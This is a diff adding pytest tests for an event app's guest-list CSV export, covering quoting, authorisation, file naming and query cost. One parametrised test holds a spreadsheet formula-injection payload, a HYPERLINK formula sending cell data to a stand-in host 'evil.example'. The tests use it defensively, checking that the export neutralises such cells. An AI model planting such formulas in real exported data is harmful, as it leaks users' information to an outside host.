@@ -1,0 +1,149 @@
+"""GET /events/{id}/guests.csv: the hosts' spreadsheet of the guest list (what a spreadsheet program reads)."""
+
+from __future__ import annotations
+
+import csv
+import io
+from urllib.parse import unquote
+
+import pytest
+from chalice import Response
+
+from chalicelib.api.responses import to_response
+from tests.utils.api import body, get, post_event, post_json
+from tests.utils.factories import make_person
+
+BOM = "\ufeff"
+
+
+def _rows(response) -> list[list[str]]:
+    text = response.body.decode("utf-8")
+    assert text.startswith(BOM)
+    return list(csv.reader(io.StringIO(text[len(BOM) :], newline="")))
+
+
+def _event(client, owner, *guests, **fields) -> int:
+    created = post_event(client, owner, invite_phone_numbers=[guest.phone for guest in guests], **fields)
+    assert created.status_code == 201, created.body
+    return body(created)["id"]
+
+
+def _reply(client, event_id, guest, accept=True, **fields):
+    answer = post_json(client, f"/events/{event_id}/{'accept' if accept else 'reject'}", fields, guest.token)
+    assert answer.status_code == 200, answer.body
+    return answer
+
+
+def test_the_host_gets_one_row_per_invitee_with_answer_party_line_and_message(client):
+    alice = make_person("Alice")
+    going, declined, waiting, silent = (make_person(name) for name in ("Bea Going", "Cal No", "Dee Wait", "Eve Mute"))
+    event_id = _event(client, alice, going, declined, waiting, silent, total_spots=2, waitlist=True,
+                      max_extra_guests=2)  # fmt: skip
+    _reply(client, event_id, going, extra_guests=1, rsvp_message="Bringing pie, see you")
+    _reply(client, event_id, declined, accept=False, rsvp_message='Sorry, "busy"')
+    _reply(client, event_id, waiting, extra_guests=0)
+
+    response = get(client, f"/events/{event_id}/guests.csv", alice.token)
+
+    assert response.status_code == 200
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.body.count(b"\r\n") == 5 and b"\n" not in response.body.replace(b"\r\n", b"")
+    assert _rows(response) == [
+        ["name", "phone", "answer", "extra guests", "waitlist position", "message"],
+        ["Bea Going", f"'{going.phone}", "going", "1", "", "Bringing pie, see you"],
+        ["Cal No", f"'{declined.phone}", "declined", "0", "", 'Sorry, "busy"'],
+        ["Dee Wait", f"'{waiting.phone}", "waiting", "0", "1", ""],
+        ["Eve Mute", f"'{silent.phone}", "no reply", "0", "", ""],
+    ]
+    assert b'"Sorry, ""busy"""' in response.body  # RFC 4180: quoted, quotes doubled
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
+        ("+1 (555) Party", "'+1 (555) Party"),
+        ("-x Dash", "'-x Dash"),
+        ("@y Handle", "'@y Handle"),
+        ("דנה כהן", "דנה כהן"),
+        ("Zoë 🎉 Party", "Zoë 🎉 Party"),
+    ],
+)
+def test_no_cell_runs_as_a_formula_and_any_script_survives(client, name, cell):
+    alice, guest = make_person("Alice"), make_person("Someone")
+    from chalicelib.services import users
+
+    users.update_profile(guest.user, {"full_name": name, "email": "guest@ex.test"})
+    event_id = _event(client, alice, guest)
+    _reply(client, event_id, guest, rsvp_message="=1+2")
+
+    rows = _rows(get(client, f"/events/{event_id}/guests.csv", alice.token))
+
+    assert rows[1][0] == cell
+    assert rows[1][5] == "'=1+2"
+
+
+def test_the_file_is_named_after_the_title_with_an_ascii_fallback(client):
+    alice = make_person("Alice")
+    event_id = _event(client, alice, title='Dîner "chez" נועה 🎉')
+
+    disposition = get(client, f"/events/{event_id}/guests.csv", alice.token).headers["Content-Disposition"]
+
+    plain, full = disposition.split("; filename*=UTF-8''")
+    assert plain == 'attachment; filename="Diner chez.csv"'
+    assert unquote(full) == "Dîner chez נועה 🎉.csv"
+
+
+def test_a_guest_is_refused_and_a_stranger_sees_no_event(client):
+    alice, bob, stranger = make_person("Alice"), make_person("Bob"), make_person("Stranger")
+    event_id = _event(client, alice, bob)
+    assert get(client, f"/events/{event_id}/guests.csv", bob.token).status_code == 403
+    assert get(client, f"/events/{event_id}/guests.csv", stranger.token).status_code == 404
+    assert get(client, f"/events/{event_id}/guests.csv").status_code == 401
+
+
+def test_it_goes_through_api_gateway_as_text_not_base64(app):
+    """A binary type would have API Gateway base64 the body; text/csv is none of the app's."""
+    from chalicelib.domain.guest_sheet import CONTENT_TYPE
+
+    answer = to_response(Response(body="a,b\r\n", headers={"Content-Type": CONTENT_TYPE}), "GET")
+    lambda_answer = answer.to_dict(app.api.binary_types)
+    assert lambda_answer["body"] == "a,b\r\n" and not lambda_answer.get("isBase64Encoded")
+
+
+def test_it_costs_one_query_and_one_batch_read_of_the_guests(client, aws):
+    alice = make_person("Alice")
+    guests = [make_person(f"Guest {n}") for n in range(30)]
+    event_id = _event(client, alice, *guests)
+    aws.reset()
+    assert get(client, f"/events/{event_id}/guests.csv", alice.token).status_code == 200
+    # the caller's token and person are one BatchGetItem, the guests another: the same as for 1 guest
+    assert aws.of("dynamodb") == {"Query": 1, "BatchGetItem": 2}
+
+
+def test_offline_guests_and_answers_to_questions_have_their_rows_and_columns(client):
+    alice, bob = make_person("Alice"), make_person("Bob")
+    questions = [{"text": "Dietary needs?", "kind": "text"}, {"text": "=Bringing", "kind": "text"}]
+    event_id = _event(client, alice, bob, total_spots=10, max_extra_guests=2, questions=questions)
+    _reply(client, event_id, bob, answers={"q1": "No nuts", "q2": "-salad"})
+    added = post_json(client, f"/events/{event_id}/offline_guests", {"name": "Grandma Rose", "extra_guests": 1},
+                      alice.token)  # fmt: skip
+    assert added.status_code == 201, added.body
+
+    rows = _rows(get(client, f"/events/{event_id}/guests.csv", alice.token))
+
+    assert rows[0][6:] == ["Dietary needs?", "'=Bringing"]
+    assert rows[1][0] == "Bob" and rows[1][6:] == ["No nuts", "'-salad"]
+    assert rows[2] == ["Grandma Rose", "", "going", "1", "", "", "", ""]
+
+
+def test_a_clone_asks_the_same_questions_without_the_answers(client):
+    alice, bob = make_person("Alice"), make_person("Bob")
+    event_id = _event(client, alice, bob, questions=[{"text": "Dietary needs?", "kind": "text"}])
+    _reply(client, event_id, bob, answers={"q1": "No nuts"})
+    clone = post_json(client, f"/events/{event_id}/clone", {"event_date": "2031-01-01T18:00:00Z",
+                                                            "invite_same_guests": True}, alice.token)  # fmt: skip
+    assert clone.status_code == 201, clone.body
+    assert [question["text"] for question in body(clone)["questions"]] == ["Dietary needs?"]
+    sheet = _rows(get(client, f"/events/{body(clone)['id']}/guests.csv", alice.token))
+    assert sheet[1][2] == "no reply" and sheet[1][6] == ""
